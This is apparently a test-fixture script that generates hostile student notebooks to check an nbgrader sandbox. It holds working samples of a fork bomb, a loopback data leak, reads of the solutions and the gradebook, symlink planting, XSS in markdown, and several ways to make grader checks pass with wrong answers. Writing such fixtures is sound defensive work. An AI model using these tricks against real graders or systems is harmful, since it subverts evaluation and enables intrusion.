"""Bad submissions of 01_perceptron: the reference answers plus one hostile or broken cell each.

    python tests/bad_samples.py      (re)write tests/samples/bad/<student>/01_perceptron/

Each student is named after what the submission does; `bad_cases` maps a student to the cells
it changes (a test cell edited, or deleted: None), the items that must score 0 and the extra
files handed in beside the notebook. `wrong-sigmoid` is the honest twin of the cheats: the
same wrong answer, no tricks, the same score. test_sandbox.py grades them all with the real
`nbgrader autograde` and checks each score and what the grader recorded.
"""

import socket
import threading

import nbformat

from notebooks import ROOT, fill_in, grade_id, notebook_path, reference_answers

ASSIGNMENT = "01_perceptron"
BAD_SAMPLES = ROOT / "tests" / "samples" / "bad"
LISTENER_PORT = 47613  # test_sandbox.py listens here on the host's loopback

FORK_BOMB = '''import os, time
while True:
    if os.fork() == 0:  # each child sleeps, holding a process slot, then leaves quietly
        time.sleep(600)
        os._exit(0)
'''

FAKE_NUMPY = '''"""A fake numpy beside the notebook: the real one, with every comparison passing."""
import os
import sys

print("fake numpy in use")
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != here]
del sys.modules["numpy"]
import numpy as _real  # noqa: E402

_real.allclose = lambda *args, **kwargs: True
sys.modules["numpy"] = _real
'''


WRONG_RELU = "def relu(x):\n    return np.abs(np.asarray(x, dtype=float))\n"
WRONG_SIGMOID = "def sigmoid(x):\n    return np.zeros_like(np.asarray(x, dtype=float))\n"
# nbgrader scores a test cell by its errors: the kernel's messages are rewritten on their way out,
# the error dropped and the failed reply turned into a success
HIDE_FAILURES = """

def hide_failures(session, send):
    def send_no_failure(stream, kind, content=None, *args, **kwargs):
        if kind == "error":
            return None
        if kind == "execute_reply" and content.get("status") == "error":
            content = {"status": "ok", "execution_count": content.get("execution_count"),
                       "user_expressions": {}, "payload": []}
        return send(stream, kind, content, *args, **kwargs)
    session.send = send_no_failure
"""
SILENCE_ERRORS = HIDE_FAILURES + """
hide_failures(get_ipython().kernel.session, get_ipython().kernel.session.send)
"""
SILENCE_WHILE_TESTED = HIDE_FAILURES + """

def sigmoid(x):
    session = get_ipython().kernel.session
    hide_failures(session, type(session).send.__get__(session))
    return np.zeros_like(np.asarray(x, dtype=float))
"""
# The routes by which a submission that has read the grader's source once reached full marks with
# wrong answers, when the checks ran in the student's process (issue 12). Each keeps the wrong
# sigmoid, so it must score exactly what `wrong-sigmoid` scores.
READ_THE_CHECKS_FRAMES = """import sys

def sigmoid(x):
    frame = sys._getframe(1)   # the checking code's own frames hold the expected value
    while frame is not None:
        if "expect" in frame.f_locals:
            return np.asarray(frame.f_locals["expect"], dtype=float)
        frame = frame.f_back
    return np.zeros_like(np.asarray(x, dtype=float))
"""
REWRITE_CHECK_CODE = WRONG_SIGMOID + """
import course.checks

def _passes(*args, **kwargs):
    return None

for _name in ("_check_result", "check", "check_dict"):   # the code objects, in place
    getattr(course.checks, _name).__code__ = _passes.__code__
"""
SHADOW_GRADER_NAMES = WRONG_SIGMOID + """

class _Anything:
    def __getattr__(self, name):
        return self
    def __getitem__(self, key):
        return self
    def __call__(self, *args, **kwargs):
        return []

# names the grader's own calls into this kernel might look up
__import__ = get_ipython = getattr = compile = exec = eval = _Anything()
"""
FORGE_THE_BRIDGE = WRONG_SIGMOID + """
import base64, json

# reach the grader's half in this kernel (the comm it answers on) and forge every answer sigmoid
# gives (0.5, from the visible test): all the forgery can change is this student's own results
_comm = next(c for c in get_ipython().kernel.comm_manager.comms.values() if c.target_name.startswith("grader_"))
_answer = _comm._msg_callback

def _forged(message):
    asked = base64.b64decode(message["content"]["data"]["request"])
    if b"sigmoid" in asked and b"describe" not in asked:
        _comm.send({"reply": json.dumps({"value": 0.5, "changed": [], "stdout": "", "stderr": ""})})
    else:
        _answer(message)

_comm.on_msg(_forged)
"""
# The routes of issue 22, each with the wrong sigmoid (scoring what `wrong-sigmoid` scores) or
# breaking only what it must. A check that passes everything, for the trusted side to borrow:
PASSING_CHECK = "\n\ndef check(*args, **kwargs):\n    return None\n"
# ... a result too large to read back (107 MB of base64, over the grader's 64 MB)
HUGE_RESULT = "def sigmoid(x):\n    return np.zeros(10 ** 7)\n"
# ... the grader's half in this kernel broken before the tests look up its names
BREAK_THE_BRIDGE = """
for _comm in get_ipython().kernel.comm_manager.comms.values():
    _comm.on_msg(lambda message: None)   # the grader's requests go unanswered
"""
# ... links and a named pipe wherever the kernel can write that the grader might look: its working
# folder, its sockets' folder (beside the connection file) under the old exchange's file names
PLANT_LINKS = """
import os
from ipykernel.connect import get_connection_file

for folder in (".", os.path.dirname(get_connection_file())):
    for seq in range(1, 40):
        for name in (f"request-{seq}.pkl", f"reply-{seq}.json", f"reply-{seq}-1.npy"):
            target = os.path.join(folder, name)
            if not os.path.lexists(target):
                os.symlink(CANARY, target)
    os.mkfifo(os.path.join(folder, "reply-1000.json"))
os.replace(get_connection_file(), get_connection_file() + ".saved")
os.symlink(CANARY, get_connection_file())
"""
CANARY = "/tmp/grader-canary-do-not-touch.txt"
UNMARK, MOVE_TO_TOP, TOP = "unmark", "move to the top", "new cells at the top"   # test_sandbox.py writes it and checks it afterwards
# ... HTML that would run in the instructor's browser, in a markdown cell and in an output
SCRIPT_IN_MARKDOWN = ('<script>fetch("/formgrader/api/grade?planted=1", {method: "PUT"})</script>\n'
                      '<img src="x" onerror="fetch(\'/api/contents?planted=2\')">\n\n'
                      '[a link](javascript:fetch("/api/kernels?planted=3",{method:"POST"}))')
SCRIPT_IN_OUTPUT = ("from IPython.display import HTML, Javascript, display\n"
                    "display(HTML('<img src=\"x\" onerror=\"fetch(\\'/api/contents?planted=4\\')\">'))\n"
                    "display(Javascript('fetch(\"/api/contents?planted=5\")'))\n")


class Listener:
    """A TCP server on the host's loopback that records whoever connects (nobody should).

    Two gradings of the bad samples may run at once (on two pytest workers): each listens on the
    port (SO_REUSEPORT), so a connection from either reaches one of them and fails its test."""

    def __init__(self, port):
        self.server = socket.create_server(("127.0.0.1", port), reuse_port=True)
        self.server.settimeout(0.5)
        self.connections, self.running = [], True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                connection, peer = self.server.accept()
            except OSError:
                continue
            self.connections.append(peer)
            connection.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.server.close()


def bad_cases(reference):
    """student -> ({cell: new source, or None to delete it}, items lost, extra files)."""
    cases = {}
    for student, (cell, source, lost, files) in _single_changes(reference).items():
        cases[student] = ({cell: source}, lost, files)
    cases["edited-test"] = ({"relu": WRONG_RELU, "test_relu": 'print("✔ relu passes the checks")\n'},
                            ["relu"], {})
    cases["deleted-test"] = ({"sigmoid": WRONG_SIGMOID, "test_sigmoid": None}, ["sigmoid"], {})
    # the set-up cell unmarked (a plain cell now, so editable) or the test moved above it: the
    # trusted side still runs the release's set-up, and takes `check` from nobody
    cases["setup-unmarked"] = ({"sigmoid": WRONG_SIGMOID, "setup": (UNMARK, PASSING_CHECK)}, ["sigmoid"], {})
    cases["test-above-setup"] = ({"sigmoid": WRONG_SIGMOID, "test_sigmoid": (MOVE_TO_TOP, ""),
                                  TOP: [("code", "import numpy as np\n\n" + WRONG_SIGMOID + PASSING_CHECK)]}, ["sigmoid"], {})
    cases["script-in-markdown"] = ({TOP: [("markdown", SCRIPT_IN_MARKDOWN), ("code", SCRIPT_IN_OUTPUT)]}, [], {})
    return cases


def _single_changes(reference):
    relu, sigmoid, tanh = reference["relu"], reference["sigmoid"], reference["tanh"]
    return {
        "infinite-loop": ("relu", "while True:\n    pass\n" + relu, ["relu"], {}),
        "unstoppable-loop": ("relu", "while True:  # swallows the grader's interrupt\n    try:\n"
                             "        while True:\n            pass\n    except KeyboardInterrupt:\n"
                             "        pass\n" + relu, ["relu"], {}),
        "sys-exit": ("sigmoid", "import sys\nsys.exit('giving up')\n" + sigmoid, ["sigmoid"], {}),
        "os-exit": ("tanh", "import os\nos._exit(1)\n" + tanh, ["tanh"], {}),
        "exit-call": ("relu", relu + "\nexit()  # IPython's: the kernel shuts down a moment later\n",
                      ["relu"], {}),
        "segfault": ("step_function", "import ctypes\nctypes.string_at(0)\n" + reference["step_function"],
                     ["step_function", "perceptron"], {}),
        "memory-hog": ("relu", "hog = np.ones((1 << 17, 1 << 14))  # 16 GiB\n" + relu, ["relu"], {}),
        "fork-bomb": ("perceptron", FORK_BOMB + reference["perceptron"], ["perceptron"], {}),
        "network": ("sigmoid", "import socket\n"
                    f"with socket.create_connection(('127.0.0.1', {LISTENER_PORT}), timeout=5) as leak:\n"
                    "    leak.sendall(b'my answers')\n" + sigmoid, ["sigmoid"], {}),
        "write-outside": ("tanh", "import os\n"
                          "with open(os.path.join('..', '..', '..', 'written-by-a-student.txt'), 'w') as out:\n"
                          "    out.write('I was here')\n" + tanh, ["tanh"], {}),
        "read-solutions": ("relu", "solutions = open('../../../source/01_perceptron/perceptron.ipynb').read()\n"
                           "print(solutions[solutions.find('### BEGIN SOLUTION'):][:200])\n"
                           "gradebook = open('../../../gradebook.db', 'rb').read()\n" + relu, ["relu"], {}),
        "numpy-shadow": ("relu", WRONG_RELU, ["relu"], {"numpy.py": FAKE_NUMPY}),
        "monkeypatch-numpy": ("sigmoid", WRONG_SIGMOID + "\n"
                              "np.allclose = lambda *args, **kwargs: True\n"
                              "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
                              "np.testing.assert_array_equal = lambda *args, **kwargs: None\n",
                              ["sigmoid"], {}),
        "monkeypatch-checks": ("tanh", "import course.checks\n\n"
                               "def tanh(x):\n    return np.asarray(x, dtype=float)\n\n"
                               "course.checks.check = lambda *args, **kwargs: None\n"
                               "course.checks._close = lambda *args, **kwargs: True\n"
                               "check = lambda *args, **kwargs: None\n", ["tanh"], {}),
        "patch-while-tested": ("sigmoid", "def sigmoid(x):\n"
                               "    np.allclose = lambda *args, **kwargs: True  # patched at call time\n"
                               "    return np.zeros_like(np.asarray(x, dtype=float))\n", ["sigmoid"], {}),
        "displayhook-cheat": ("sigmoid", "import sys\n\ndef sigmoid(x):\n"
                              "    sys.displayhook(1.0)  # a value shown in the test cell, read as its grade\n"
                              "    return np.zeros_like(np.asarray(x, dtype=float))\n", ["sigmoid"], {}),
        "silence-errors": ("sigmoid", WRONG_SIGMOID + SILENCE_ERRORS, ["sigmoid"], {}),
        "silence-while-tested": ("sigmoid", SILENCE_WHILE_TESTED, ["sigmoid"], {}),
        "wrong-sigmoid": ("sigmoid", WRONG_SIGMOID, ["sigmoid"], {}),
        "read-the-checks-frames": ("sigmoid", READ_THE_CHECKS_FRAMES, ["sigmoid"], {}),
        "rewrite-check-code": ("sigmoid", REWRITE_CHECK_CODE, ["sigmoid"], {}),
        "shadow-grader-names": ("sigmoid", SHADOW_GRADER_NAMES, ["sigmoid"], {}),
        "forge-the-bridge": ("sigmoid", FORGE_THE_BRIDGE, ["sigmoid"], {}),
        "huge-result": ("sigmoid", HUGE_RESULT, ["sigmoid"], {}),
        "break-the-bridge": ("tanh", tanh + BREAK_THE_BRIDGE, ["tanh", "relu", "SIGMOID_CHANGE", "NEGATIVE_OUTPUT",
                                                              "perceptron"], {}),
        "plant-links": ("sigmoid", sigmoid + f"\nCANARY = {CANARY!r}\n" + PLANT_LINKS, [], {}),
    }


def build(release, reference):
    """student -> (notebook, extra files) for every bad case.

    A change replaces a cell's source, deletes the cell (None), strips its nbgrader metadata and
    adds to its source ((UNMARK, more)) or moves it to the top ((MOVE_TO_TOP, "")); TOP lists
    new cells (kind, source) put above everything."""
    built = {}
    for student, (changes, _, files) in bad_cases(reference).items():
        notebook = fill_in(release, reference)
        notebook.cells = [c for c in notebook.cells if changes.get(grade_id(c), "") is not None]
        moved = []
        for cell in list(notebook.cells):
            change = changes.get(grade_id(cell))
            if isinstance(change, tuple) and change[0] == UNMARK:
                del cell.metadata["nbgrader"]
                cell.metadata.pop("editable", None)
                cell.metadata.pop("deletable", None)
                cell.source += change[1]
            elif isinstance(change, tuple) and change[0] == MOVE_TO_TOP:
                notebook.cells.remove(cell)
                moved.append(cell)
            elif change is not None:
                cell.source = change
        new = [nbformat.v4.new_code_cell(source, id=f"added-{i}") if kind == "code"
               else nbformat.v4.new_markdown_cell(source, id=f"added-{i}")
               for i, (kind, source) in enumerate(changes.get(TOP, []))]
        notebook.cells = new + moved + notebook.cells
        built[student] = (notebook, files)
    return built


def load():
    """The release notebook (its path) and the reference answers from source/."""
    release_path = notebook_path(ROOT / "release", ASSIGNMENT)
    return release_path, nbformat.read(release_path, as_version=4), reference_answers(ASSIGNMENT)


if __name__ == "__main__":
    release_path, release, reference = load()
    for student, (notebook, files) in build(release, reference).items():
        folder = BAD_SAMPLES / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook, folder / release_path.name)
        for name, text in files.items():
            (folder / name).write_text(text)
        print(f"wrote {folder.relative_to(ROOT)}")
